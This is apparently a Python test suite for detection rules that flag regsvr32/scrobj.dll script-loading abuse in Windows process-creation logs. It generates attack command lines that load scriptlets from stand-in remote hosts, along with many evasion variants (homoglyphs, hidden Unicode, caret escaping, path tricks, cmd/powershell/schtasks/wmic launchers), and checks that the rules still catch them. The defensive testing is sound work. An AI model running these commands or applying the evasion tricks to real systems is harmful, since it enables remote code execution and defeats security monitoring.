"""The shipped rules under generated command lines: no way of writing an attack makes it look
better, no lawful library makes an ordinary registration look worse.

SQUIBLY_SEED sets the seed, which is printed; SQUIBLY_LONG makes many more lines.
"""
import collections
import glob
import json
import os
import random
import re

from harness import LONG, SOURCE, Case, main, scan

LEVELS = ["none", "informational", "low", "medium", "high", "critical"]
REGSVR32 = "C:\\Windows\\System32\\regsvr32.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
EXPLORER = "C:\\Windows\\explorer.exe"
SEED = int(os.environ.get("SQUIBLY_SEED", "20261120"))
ROUNDS = 400 if LONG else 40

# Switches, the value of /i, libraries: attacks that are serious however they are written.
ATTACKS = [
    (["s", "n", "u"], "http://files.example.net/a.sct", ["scrobj.dll"]),
    (["s"], "https://203.0.113.7:8080/x?y=1", ["C:\\Windows\\System32\\scrobj.dll"]),
    (["u"], "ftp://files.example.net/pub/a.txt", ["scrobj"]),
    (["s"], "\\\\203.0.113.7\\pub\\a.sct", ["scrobj.dll"]),
    (["s", "u"], "\\\\files.example.net@SSL\\DavWWWRoot\\a.sct", ["scrobj.dll"]),
    (["s", "n"], "C:\\Users\\Public\\a.sct", ["scrobj.dll"]),
    (["s"], "https://files.example.net/a", ["C:\\ProgramData\\b.dll"]),
    (["s"], None, ["C:\\Users\\Public\\a.dll"]),
    (["s"], None, ["C:\\ProgramData\\Contoso\\a.ocx"]),
    ([], None, ["C:\\Users\\m.rossi\\Downloads\\scan.dll"]),
    (["s"], None, ["C:\\ProgramData\\holiday.jpg"]),
    (["s"], None, ["\\\\203.0.113.7\\pub\\x.dll"]),
    (["s", "n"], "shellcode,x.b64", ["C:\\ProgramData\\rs.dll"]),
    (["s"], None, ["C:\\Program Files\\Contoso\\a.dll", "C:\\Users\\Public\\b.dll"]),
]
LAWFUL = [
    "C:\\Program Files\\Contoso\\shellext.dll", "C:\\Program Files (x86)\\Contoso AG\\Office\\addin.dll",
    "C:\\Program Files\\Common Files\\Contoso Shared\\x.ocx",
    "C:\\Program Files\\Users\\Public\\a.dll", "C:\\Program Files\\Temp\\AppData\\http.dll",
    "C:\\Program Files\\Contoso\\data.dat", "C:\\Windows\\System32\\wuapi.dll", "C:\\Windows\\SysWOW64\\msxml3.dll",
    "C:\\WINDOWS\\system32\\wbem\\wmiutils.dll", "%windir%\\system32\\atl.dll", "%ProgramFiles%\\Contoso\\x.dll",
    "C:\\PROGRA~1\\Contoso\\x.dll", "\\\\?\\C:\\Program Files\\Contoso\\x.dll", "C:/Program Files/Contoso/x.dll",
    "C:\\Program Files\\Contoso\\bin\\..\\lib\\x.dll", "wuapi.dll", "msxml3.dll", "shell32.dll", "jscript.dll",
]
SECOND_DISK = "D:\\Program Files\\Contoso\\filter.ax"  # lawful, but what looks odd beside it stays odd
HIDDEN = "\u00ad\u200b\u200c\u200d\u200e\u202a\u202e\u2060\u2063\u2066\ufeff"
CONTROL = "\x01\x02\x0e\x1b\x1f\x7f"
DASHES = "\u2010\u2011\u2013\u2014\u2212\ufe63\uff0d"
SLASHES = "\u2044\u2215\uff0f"
ALIKE = str.maketrans({"a": "\u0430", "c": "\u0441", "e": "\u0435", "o": "\u043e", "s": "\u0455", "j": "\u0458"})


def quoted(text):
    return '"' + text + '"' if " " in text and '"' not in text else text


class Line:
    """One way of writing an attack: switches and libraries as words, then tricks on them."""

    def __init__(self, attack, rng):
        letters, value, libraries = attack
        self.rng = rng
        self.words = [["/", x, ""] for x in letters] + ([["/", "i", ":" + value]] if value else [])
        self.libraries = list(libraries)
        self.blank = " "
        self.order = False

    def some(self, text):
        return self.rng.randrange(len(text) + 1)

    def case(self):
        self.words = [[d, self.rng.choice([x, x.upper()]), v.swapcase() if self.rng.random() < .5 else v]
                      for d, x, v in self.words]
        self.libraries = [x.upper() for x in self.libraries]

    def dash(self):
        self.words = [["-", x, v] for _, x, v in self.words]

    def false_dash(self):
        self.words = [[self.rng.choice(DASHES + SLASHES), x, v] for _, x, v in self.words]

    def longer(self):
        more = {"s": "ilent", "n": "oreg", "u": "nregister", "i": "nstall"}
        self.words = [[d, x + more.get(x.lower(), ""), v] for d, x, v in self.words]

    def hidden(self):
        self.words = [[d, x + self.rng.choice(HIDDEN), v] for d, x, v in self.words]

    def hidden_in_name(self):
        def put(t):
            at = self.some(t)
            return t[:at] + self.rng.choice(HIDDEN) + t[at:]
        self.libraries = [put(x) for x in self.libraries]

    def control(self):
        self.words = [[d, x + self.rng.choice(CONTROL), v] for d, x, v in self.words]

    def blanks(self):
        self.blank = self.rng.choice(["  ", "\t", " \t ", " " * 150, " " * 3000])

    def quotes(self):
        self.words = [['"' + d, x, v + '"'] for d, x, v in self.words]

    def split_quotes(self):
        def put(t):
            a = self.some(t)
            b = self.rng.randrange(a, len(t) + 1)
            # A backslash before a quote means something else.
            return t if "\\" in (t[a - 1:a], t[b - 1:b]) or " " in t else t[:a] + '"' + t[a:b] + '"' + t[b:]
        self.words = [[d, x, v[:1] + put(v[1:])] for d, x, v in self.words]
        self.libraries = [put(x) for x in self.libraries]

    def shuffle(self):
        self.order = True

    def slashes(self):
        self.libraries = [x.replace("\\", "/") for x in self.libraries]

    def doubled(self):
        self.libraries = [x[:2] + x[2:].replace("\\", "\\\\") for x in self.libraries]

    def dots(self):
        self.libraries = [x[:2] + x[2:].replace("\\", "\\.\\", 1) if x[1:3] == ":\\" else x for x in self.libraries]

    def climb(self):
        self.libraries = ["C:\\Program Files\\Contoso\\..\\.." + x[2:] if x[:3].upper() == "C:\\" else x
                          for x in self.libraries]

    def prefix(self):
        self.libraries = ["\\\\?\\" + x if x[:3].upper() == "C:\\" else x for x in self.libraries]

    def loopback(self):
        self.libraries = ["\\\\localhost\\c$" + x[2:] if x[:3].upper() == "C:\\" else x for x in self.libraries]

    def alike(self):
        self.libraries = [x.translate(ALIKE) if "scrobj" in x else x for x in self.libraries]

    def decoy(self):
        self.libraries.insert(0, "C:\\Program Files\\Contoso\\shellext.dll")

    def no_name(self):
        self.name = ""

    name = "regsvr32"

    def text(self):
        words = ["".join(w) if '"' in "".join(w) else quoted("".join(w)) for w in self.words]
        words += [quoted(x) for x in self.libraries]
        if self.order:
            self.rng.shuffle(words)
        return (self.name + self.blank if self.name else " ") + self.blank.join(words)


# Each of these, and any two of them that do not undo each other.
TRICKS = ["case", "dash", "false_dash", "longer", "hidden", "hidden_in_name", "control", "blanks", "quotes", "split_quotes",
          "shuffle", "slashes", "doubled", "dots", "climb", "prefix", "loopback", "alike", "decoy", "no_name"]
PATHS = {"slashes", "doubled", "dots", "climb", "prefix", "loopback"}  # one of these at a time
LAST = ["case", "hidden_in_name", "split_quotes", "quotes", "alike"]    # these spoil what others look for


def written(attack, names, rng):
    line = Line(attack, rng)
    for name in sorted(names, key=lambda n: LAST.index(n) if n in LAST else -1):
        getattr(line, name)()
    return line.text()


def event(n, line, image=REGSVR32, parent=CMD):
    return {"EventID": 4688, "Channel": "Security", "Hostname": "ws-1.corp.example", "NewProcessName": image,
            "ParentProcessName": parent, "CommandLine": line, "N": n}


def levels(lines, **kw):
    """The highest level of each command line."""
    alerts, n = scan(stdin=b"".join(json.dumps(event(i, x, **kw)).encode() + b"\n" for i, x in enumerate(lines)))
    assert (n["events"], n["malformed"]) == (len(lines), 0)
    found = collections.defaultdict(int)
    for a in alerts:
        i = json.loads(a["event"]["original"])["N"]
        found[i] = max(found[i], LEVELS.index(a["rule"]["level"]))
    return [found[i] for i in range(len(lines))]


class Pack(Case):
    def setUp(self):
        print(f"seed {SEED} ", end="")
        self.rng = random.Random(SEED)

    def test_no_trick_lowers_the_level_of_an_attack(self):
        plain = levels([written(a, [], self.rng) for a in ATTACKS])
        for attack, level in zip(ATTACKS, plain):
            with self.subTest(attack):
                self.assertGreaterEqual(level, LEVELS.index("high"))
        rows = [(i, (name,)) for i in range(len(ATTACKS)) for name in TRICKS]
        for _ in range(ROUNDS * len(ATTACKS)):
            names = set(self.rng.sample(TRICKS, self.rng.randrange(2, 6)))
            if len(names & PATHS) <= 1:
                rows.append((self.rng.randrange(len(ATTACKS)), tuple(sorted(names))))
        lines = [written(ATTACKS[i], names, self.rng) for i, names in rows]
        for (i, names), line, level in zip(rows, lines, levels(lines)):
            with self.subTest(f"{names} on {ATTACKS[i]}: {line[:300]!r}"):
                self.assertGreaterEqual(level, plain[i])

    def test_no_lawful_library_makes_a_registration_look_worse(self):
        shapes = ["regsvr32 /s {}", "regsvr32.exe {}", '"C:\\Windows\\System32\\regsvr32.exe" /u /s {}', "regsvr32 -s {}",
                  "regsvr32 /s /n /i:user {}", 'regsvr32 /s /n /i:"Name=A B" {}', "regsvr32 {} /s", " /s {}",
                  "regsvr32 /s {} {}", "REGSVR32 /S /U {}", "regsvr32 /su {}"]
        lines = [shape.format(quoted(a), quoted(b)) for shape in shapes for a in LAWFUL
                 for b in (LAWFUL if "{} {}" in shape else LAWFUL[:1])]
        lines += [shape.format(quoted(SECOND_DISK), quoted(LAWFUL[0])) for shape in shapes]
        for parent in (CMD, EXPLORER, "C:\\Windows\\System32\\msiexec.exe", "C:\\Windows\\System32\\svchost.exe",
                       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"):
            for line, level in zip(lines, levels(lines, parent=parent)):
                with self.subTest(f"{line} below {parent}"):
                    self.assertLessEqual(level, LEVELS.index("low"))

    def test_no_rule_leaves_to_another_what_that_one_does_not_tell(self):
        """Rules exclude what more serious ones tell of. Whatever stands beside a sign, it is told."""
        signs = [  # a word of the command line, and the least level that it must give
            ("/i:http://files.example.net/a", "high"), ("-i:\\\\203.0.113.7\\p\\a.sct", "high"),
            ("/i:\\\\h@SSL\\DavWWWRoot\\a", "critical"), ("C:\\Users\\Public\\a.dll", "high"),
            ("C:\\ProgramData\\x.jpg", "high"), ("\\\\203.0.113.7\\p\\a.dll", "high"), ("\\\\fs-09\\apps\\a.dll", "medium"),
            ("notes.txt", "high"), ("C:\\Tools\\log.png", "high"), ("C:\\ProgramData\\a.txt:b.dll", "high"),
            ("/i:shellcode,a.b64 rs.dll", "high"), ("/i:C:\\Users\\Public\\a.sct scrobj.dll", "high"),
            ("C:\\ProgramData\\Contoso\\acro", "high"), ("E:\\setup\\a.ocx F:\\b.dll", "low"), ("\u200bx.dll", "high")]
        beside = ["/s", "/u", "/n", "-silent", "/i:user", '/i:"C:\\Program Files\\Contoso\\part.wsc"', "/i", "wuapi.dll", "scrobj.dll",
                  '"C:\\Program Files\\Contoso\\a.dll"', "C:\\Windows\\System32\\x.dll", "D:\\build\\y.dll", "b.dll",
                  "C:\\Users\\m.rossi\\AppData\\Local\\Temp\\is-AB12C.tmp\\pen.ocx", "E:\\c.ax",
                  "C:\\Users\\m.rossi\\AppData\\Local\\Microsoft\\OneDrive\\24.2\\FileSyncShell64.dll"]
        parents = [CMD, EXPLORER, "C:\\Windows\\System32\\msiexec.exe", "C:\\Windows\\System32\\svchost.exe", "",
                   "C:\\Program Files (x86)\\Contoso\\lob.exe", "C:\\Program Files\\Java\\bin\\java.exe",
                   "C:\\VS\\MSBuild.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", REGSVR32,
                   "C:\\Users\\m.rossi\\AppData\\Local\\Temp\\is-77T1Q.tmp\\PenSetup.tmp"]
        for parent in parents:
            rows = []
            for _ in range(ROUNDS * 5):
                sign, least = self.rng.choice(signs)
                words = [sign] + self.rng.sample(beside, self.rng.randrange(5))
                self.rng.shuffle(words)
                rows.append(("regsvr32 " + " ".join(words), least))
            for (line, least), level in zip(rows, levels([x for x, _ in rows], parent=parent)):
                with self.subTest(f"{line} below {parent}"):
                    self.assertGreaterEqual(level, LEVELS.index(least))

    def test_a_launcher_hides_nothing(self):
        base = written(ATTACKS[0], [], self.rng)
        for image, line in {
                CMD: ["cmd /c " + base, 'cmd.exe /c "' + base + '"', "cmd /c " + base.replace("regsvr32", "r^eg^svr32"),
                      "cmd /c start /b " + base, "cmd /c " + base.replace("http", "h^t^t^p")],
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe":
                    ["powershell -c " + base, "powershell -nop -c \"& '" + base.replace(" ", "' ", 1) + "\"",
                     "powershell Start-Process regsvr32 '" + base.split(" ", 1)[1] + "'"],
                "C:\\Windows\\System32\\schtasks.exe": ['schtasks /create /tn a /sc daily /tr "' + base + '"'],
                "C:\\Windows\\System32\\sc.exe": ['sc create a binpath= "' + base + '"'],
                "C:\\Windows\\System32\\wbem\\WMIC.exe": ['wmic process call create "' + base + '"'],
        }.items():
            for text, level in zip(line, levels(line, image=image)):
                with self.subTest(text):
                    self.assertGreaterEqual(level, LEVELS.index("high"))

    def test_the_table_of_rules_is_complete_and_true(self):
        folder = os.path.join(SOURCE, "patterns")
        with open(os.path.join(folder, "README.md"), encoding="utf-8") as f:
            told = re.findall(r"^\| `([a-z0-9-]+)` \| (.+) \| ([a-z]+) \|$", f.read(), re.M)
        rules = []
        for path in sorted(glob.glob(os.path.join(folder, "regsvr32", "*.yml"))) + \
                sorted(glob.glob(os.path.join(folder, "neighbours", "*.yml"))):
            with open(path, encoding="utf-8") as f:
                text = f.read()
            title = re.search(r"^title: '(.*)'$", text, re.M).group(1).replace("''", "'")
            rules.append((os.path.basename(path)[:-4], title, re.search(r"^level: (\w+)$", text, re.M).group(1)))
        self.assertEqual(told, rules)


if __name__ == "__main__":
    main()
